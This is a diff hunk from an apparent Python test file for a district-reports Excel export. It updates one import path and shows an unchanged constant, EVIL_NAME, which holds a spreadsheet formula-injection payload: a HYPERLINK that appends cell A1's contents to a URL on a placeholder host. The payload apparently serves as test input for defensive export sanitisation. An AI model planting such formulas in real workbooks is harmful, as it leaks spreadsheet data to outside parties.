@@ -8,7 +8,7 @@ from exported.formulas import work_out
 from openpyxl import Workbook, load_workbook
 
 from district_reports.exports.workbook.build import build_workbook
-from district_reports.warehouse.published import PublishedRelease
+from district_reports.warehouse.releases.published import PublishedRelease
 
 EVIL_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Suối Mơ")'
 
